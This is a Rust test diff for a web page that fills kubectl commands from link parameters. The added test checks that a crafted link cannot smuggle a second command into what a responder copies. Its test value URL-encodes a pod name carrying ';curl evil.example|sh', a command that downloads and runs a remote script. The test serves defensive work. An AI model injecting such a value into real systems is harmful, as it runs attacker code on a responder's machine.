@@ -97,6 +97,20 @@ fn queries_and_manual_commands_follow_the_target_and_the_alert_labels() {
         dom.contains(">kubectl -n shop logs api-7f9c --previous --tail=50</code>"),
         "the command run by hand, filled: {dom}"
     );
+    // A crafted link cannot put a second command into what the responder copies.
+    let hostile = "?namespace=shop&pod=api-0%3Bcurl%20evil.example%7Csh";
+    let (dom, problems) = dump(&chromium, &file_url(&page, hostile));
+    assert!(problems.is_empty(), "{problems:#?}");
+    assert!(!dom.contains("evil.example</code>"), "{dom}");
+    assert!(
+        dom.contains(">kubectl -n shop logs {{ pod }} --previous --tail=50</code>"),
+        "the unsafe value is left out, its name visible: {dom}"
+    );
+    assert_eq!(
+        dom.matches(r#"aria-invalid="true""#).count(),
+        1,
+        "the pod input, and only it, is marked: {dom}"
+    );
 }
 
 #[test]
